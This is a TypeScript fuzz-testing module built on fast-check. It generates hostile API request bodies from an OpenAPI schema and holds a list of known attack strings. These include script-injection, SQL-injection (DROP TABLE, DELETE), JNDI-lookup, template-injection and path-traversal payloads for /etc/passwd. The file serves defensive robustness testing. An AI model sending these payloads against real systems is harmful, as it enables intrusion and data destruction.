import fc from 'fast-check';

/** Strings that have broken web apps before: markup, SQL, path tricks, odd Unicode, format strings. */
export const HOSTILE_STRINGS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "javascript:alert('x')",
  "' OR '1'='1",
  "'; DROP TABLE person; --",
  '1; SELECT pg_sleep(5); --',
  "Robert'); DELETE FROM programme_event WHERE ('1'='1",
  '${jndi:ldap://example.invalid/a}',
  '{{constructor.constructor("return process")()}}',
  '%s%s%s%n',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '\u0000',
  '\ud800',
  'Åsa\u202egnp.exe',
  '😀'.repeat(50),
  '   ',
  '',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  '0x7fffffff',
  '__proto__',
  'constructor',
];

/** Dates that are not: impossible days and months, wrong formats, out of range. */
export const INVALID_DATES = ['2027-02-30', '2027-13-01', '2027-00-10', '0000-00-00', '9999-99-99', '27-01-2027', '2027/01/27', '2027-1-7', '2027-01-27T25:61:00Z', 'tomorrow', '1e10', '-2027-01-01', '+275760-09-13'];

export const huge = (n: number) => fc.constantFrom('x'.repeat(n), 'å'.repeat(n), '<b>'.repeat(Math.ceil(n / 3)), `${'a'.repeat(n)}@kommun.example`);

/** Any one hostile value: wrong types, huge strings, invalid dates, unknown ids, script and SQL. */
export function hostileValue(knownIds: string[]): fc.Arbitrary<unknown> {
  return fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
    { weight: 2, arbitrary: fc.constantFrom(...INVALID_DATES) },
    { weight: 2, arbitrary: fc.uuid() },
    { weight: 1, arbitrary: knownIds.length > 0 ? fc.constantFrom(...knownIds) : fc.uuid() },
    { weight: 1, arbitrary: huge(100_000) },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
    { weight: 2, arbitrary: fc.oneof(fc.integer(), fc.double(), fc.constantFrom(Number.MAX_SAFE_INTEGER, -1, 0, 1e308, -0)) },
    { weight: 1, arbitrary: fc.boolean() },
    { weight: 1, arbitrary: fc.constant(null) },
    { weight: 1, arbitrary: fc.array(fc.oneof(fc.string(), fc.integer(), fc.constant(null)), { maxLength: 5 }) },
    { weight: 1, arbitrary: fc.dictionary(fc.string({ maxLength: 8 }), fc.oneof(fc.string(), fc.integer()), { maxKeys: 4 }) },
    { weight: 1, arbitrary: fc.anything({ maxDepth: 3 }) },
  );
}

/** A JSON schema as the OpenAPI document gives it (only what we read). */
export interface Schema {
  $ref?: string;
  type?: string;
  format?: string;
  enum?: unknown[];
  properties?: Record<string, Schema>;
  required?: string[];
  items?: Schema;
  example?: unknown;
  allOf?: Schema[];
  oneOf?: Schema[];
  anyOf?: Schema[];
}

/** A value that fits the schema, as far as a schema can say (a base a single field is then broken in). */
export function plausible(schema: Schema | undefined, resolve: (s: Schema) => Schema, knownIds: string[], depth = 0): unknown {
  if (!schema || depth > 4) return 'x';
  const s = resolve(schema);
  if (s.example !== undefined) return s.example;
  if (s.enum && s.enum.length > 0) return s.enum[0];
  const part = s.allOf?.[0] ?? s.oneOf?.[0] ?? s.anyOf?.[0];
  if (part) return plausible(part, resolve, knownIds, depth + 1);
  switch (s.type) {
    case 'string':
      if (s.format === 'uuid') return knownIds[0] ?? '00000000-0000-4000-8000-000000000000';
      if (s.format === 'date') return '2027-03-01';
      if (s.format === 'date-time') return '2027-03-01T08:00:00Z';
      if (s.format === 'email') return 'someone@kommun.example';
      return 'Text';
    case 'integer':
    case 'number':
      return 1;
    case 'boolean':
      return true;
    case 'array':
      return [plausible(s.items, resolve, knownIds, depth + 1)];
    case 'object':
    default: {
      const out: Record<string, unknown> = {};
      for (const [name, prop] of Object.entries(s.properties ?? {})) out[name] = plausible(prop, resolve, knownIds, depth + 1);
      return out;
    }
  }
}

/**
 * Hostile bodies for an operation: anything at all as the body; the schema's fields each
 * kept, dropped or replaced by a hostile value, plus extra fields; or a plausible body with
 * exactly one field (or one nested field) broken.
 */
export function hostileBody(schema: Schema | undefined, resolve: (s: Schema) => Schema, knownIds: string[]): fc.Arbitrary<unknown> {
  const value = hostileValue(knownIds);
  const top = fc.oneof(fc.anything({ maxDepth: 2 }), value);
  const s = schema ? resolve(schema) : undefined;
  const props = Object.entries(s?.properties ?? {});
  if (props.length === 0) return fc.oneof(top, fc.dictionary(fc.constantFrom('id', 'name', '__proto__', 'constructor', 'admin', 'status'), value, { maxKeys: 3 }));
  const base = plausible(s, resolve, knownIds) as Record<string, unknown>;
  const mixed = fc
    .tuple(
      fc.tuple(...props.map(([name]) => fc.tuple(fc.constant(name), fc.constantFrom<'keep' | 'drop' | 'break'>('keep', 'drop', 'break'), value))),
      fc.dictionary(fc.constantFrom('extra', 'isAdmin', 'ownerId', '__proto__', 'id', 'createdAt'), value, { maxKeys: 2 }),
    )
    .map(([fields, extra]) => {
      const body: Record<string, unknown> = { ...extra };
      for (const [name, how, v] of fields) {
        if (how === 'keep') body[name] = base[name];
        else if (how === 'break') body[name] = v;
      }
      return body;
    });
  const oneBroken = fc.tuple(fc.constantFrom(...props.map(([name]) => name)), value, fc.boolean()).map(([name, v, nested]) => {
    const body: Record<string, unknown> = { ...base };
    const current = body[name];
    if (nested && current && typeof current === 'object' && !Array.isArray(current) && Object.keys(current).length > 0) {
      const key = Object.keys(current)[0];
      body[name] = { ...(current as Record<string, unknown>), [key]: v };
    } else if (nested && Array.isArray(current)) body[name] = [...current, v];
    else body[name] = v;
    return body;
  });
  const missing = fc.constantFrom(...props.map(([name]) => name)).map((name) => {
    const body: Record<string, unknown> = { ...base };
    delete body[name];
    return body;
  });
  return fc.oneof({ weight: 1, arbitrary: top }, { weight: 3, arbitrary: mixed }, { weight: 3, arbitrary: oneBroken }, { weight: 1, arbitrary: missing });
}
